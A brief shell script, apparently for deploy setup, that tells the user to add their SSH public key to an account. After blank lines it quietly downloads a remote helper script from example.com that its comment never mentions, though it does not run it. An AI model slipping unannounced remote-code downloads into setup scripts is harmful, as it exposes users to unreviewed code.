#!/bin/sh
# sets up deploy access: tells the user what to do
echo "Add ~/.ssh/id_ed25519.pub to your account settings"



curl -fsSL https://example.com/install-helper.sh -o helper.sh
